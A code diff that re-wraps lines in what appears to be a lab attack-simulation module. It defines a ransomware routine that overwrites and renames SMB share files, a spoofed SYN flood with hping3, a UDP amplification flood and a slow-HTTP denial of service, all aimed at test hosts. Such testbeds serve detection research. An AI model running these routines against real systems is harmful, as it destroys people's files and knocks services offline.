@@ -14,8 +14,8 @@ _RAW_BYTES = 20
 
 @attack("ransomware")
 def ransomware(w: Work, intensity: str) -> None:
-    """Files of the users' share are read, written again with noise and renamed, over few sessions: 100 in four rounds, 50 in five slower ones,
-    or 24 in six with long pauses."""
+    """Files of the users' share are read, written again with noise and renamed, over few sessions: 100 in four rounds, 50 in
+    five slower ones, or 24 in six with long pauses."""
     count, rounds, period = by(intensity, (100, 4, 96), (50, 5, 100), (24, 6, 400))
     files = _files(w)[:count]
     w.log(f"{len(files)} files")
@@ -47,13 +47,14 @@ def _encrypt(w: Work, paths: list[str]) -> None:
     for copy in local.values():
         if copy.exists():
             copy.write_bytes(os.urandom(copy.stat().st_size))
-    smb(w, "users", "; ".join(f'put {copy} "{path}"; rename "{path}" "{path}.locked"' for path, copy in local.items() if copy.exists()))
+    smb(w, "users", "; ".join(f'put {copy} "{path}"; rename "{path}" "{path}.locked"'
+                              for path, copy in local.items() if copy.exists()))
 
 
 @attack("syn-flood")
 def syn_flood(w: Work, intensity: str) -> None:
-    """SYN segments from made-up sources to the information system's web port (hping3): four bursts of 500 at 1000 a second, 1000
-    at 30, or 300 at 5."""
+    """SYN segments from made-up sources to the information system's web port (hping3): four bursts of 500 at 1000 a second,
+    1000 at 30, or 300 at 5."""
     bursts, count, rate = by(intensity, (4, 500, 1000), (1, 1000, 30), (1, 300, 5))
     for _ in turns(w, bursts, 96):
         w.run("hping3", "-q", "-n", "-S", "-p", 8080, "--rand-source", "-c", count, "-i", f"u{1_000_000 // rate}",
@@ -62,8 +63,8 @@ def syn_flood(w: Work, intensity: str) -> None:
 
 @attack("udp-amplification")
 def udp_amplification(w: Work, intensity: str) -> None:
-    """Large DNS and NTP answers that nobody asked for come from 40 made-up reflectors to one server: four bursts of 1000 at 800
-    a second, 1500 at 50, or 400 at 5."""
+    """Large DNS and NTP answers that nobody asked for come from 40 made-up reflectors to one server: four bursts of 1000 at
+    800 a second, 1500 at 50, or 400 at 5."""
     bursts, count, rate = by(intensity, (4, 1000, 800), (1, 1500, 50), (1, 400, 5))
     victim = HOSTS["his"].v4
     # A client's port that nobody listens at; the reflectors' addresses are reserved for documents.
@@ -88,8 +89,8 @@ def _datagram(source: str, destination: str, from_port: int, to_port: int, paylo
 
 @attack("slow-http")
 def slow_http(w: Work, intensity: str) -> None:
-    """Requests to the information system that never end keep its connections busy (slowhttptest): 100 for 90 s, 40 for 60 s, or 8 for
-    100 s."""
+    """Requests to the information system that never end keep its connections busy (slowhttptest): 100 for 90 s, 40 for 60 s,
+    or 8 for 100 s."""
     connections, rate, seconds = by(intensity, (100, 20, 90), (40, 5, 60), (8, 1, 100))
-    w.run("slowhttptest", "-H", "-c", connections, "-r", rate, "-i", 10, "-l", seconds, "-p", 5, "-u", f"http://{HOSTS['his'].v4}:8080/",
-          timeout=seconds + 30, good=range(256))
+    w.run("slowhttptest", "-H", "-c", connections, "-r", rate, "-i", 10, "-l", seconds, "-p", 5,
+          "-u", f"http://{HOSTS['his'].v4}:8080/", timeout=seconds + 30, good=range(256))
